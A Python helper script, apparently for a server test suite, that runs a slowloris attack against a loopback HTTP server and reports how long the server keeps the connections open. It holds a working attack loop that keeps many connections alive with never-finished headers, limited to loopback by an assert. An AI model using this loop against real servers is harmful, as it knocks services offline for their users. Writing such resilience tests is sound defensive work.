"""The slowloris attacker of test_slowloris.py, in its own process so that its work does not slow the
test's own measurements. ``python slowloris_attacker.py HOST PORT SECONDS HEADER_TIMEOUT SLOTS SRC...``
prints one JSON line: connections opened, connect failures, each connection's lifetime.
Loopback only: the sources must be 127.0.0.0/8 addresses.
"""

from __future__ import annotations

import asyncio
import ipaddress
import json
import random
import sys
import time

MAX_CONNECTIONS_OPENED = 3000
RECONNECT_AFTER = 1.0  # as slowloris does, but without spinning


class Attack:
    def __init__(self, host: str, port: int, seconds: float, header_timeout: float) -> None:
        self.host, self.port, self.header_timeout = host, port, header_timeout
        self.stop = time.monotonic() + seconds
        self.opened = 0
        self.connect_failed = 0
        self.lifetimes: list[float] = []

    async def slot(self, source: str, delay: float) -> None:
        await asyncio.sleep(delay)  # ramped up over a second, as attack tools do
        while time.monotonic() < self.stop and self.opened < MAX_CONNECTIONS_OPENED:
            await self.one(source)
            await asyncio.sleep(RECONNECT_AFTER * random.uniform(0.5, 1.5))

    async def one(self, source: str) -> None:
        self.opened += 1
        start = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(self.host, self.port, local_addr=(source, 0)), 2
            )
        except (OSError, TimeoutError):
            self.connect_failed += 1
            return
        try:
            writer.write(b"GET /book/sakura HTTP/1.1\r\nHost: clinic\r\n")
            while time.monotonic() < self.stop + self.header_timeout + 3:
                try:
                    if not await asyncio.wait_for(reader.read(1024), 1.0):
                        break  # closed by the server
                except TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")  # one more header line, never the blank one
        except OSError:
            pass
        finally:
            self.lifetimes.append(time.monotonic() - start)
            writer.close()


async def main(host: str, port: int, seconds: float, header_timeout: float, slots: int, sources: list[str]) -> None:
    assert ipaddress.ip_address(host).is_loopback and all(ipaddress.ip_address(s).is_loopback for s in sources)
    attack = Attack(host, port, seconds, header_timeout)
    await asyncio.gather(*(attack.slot(sources[i % len(sources)], i / slots) for i in range(slots)))
    print(json.dumps({"opened": attack.opened, "connect_failed": attack.connect_failed, "lifetimes": attack.lifetimes}))


if __name__ == "__main__":
    h, p, s, t, n, *src = sys.argv[1:]
    asyncio.run(main(h, int(p), float(s), float(t), int(n), src))
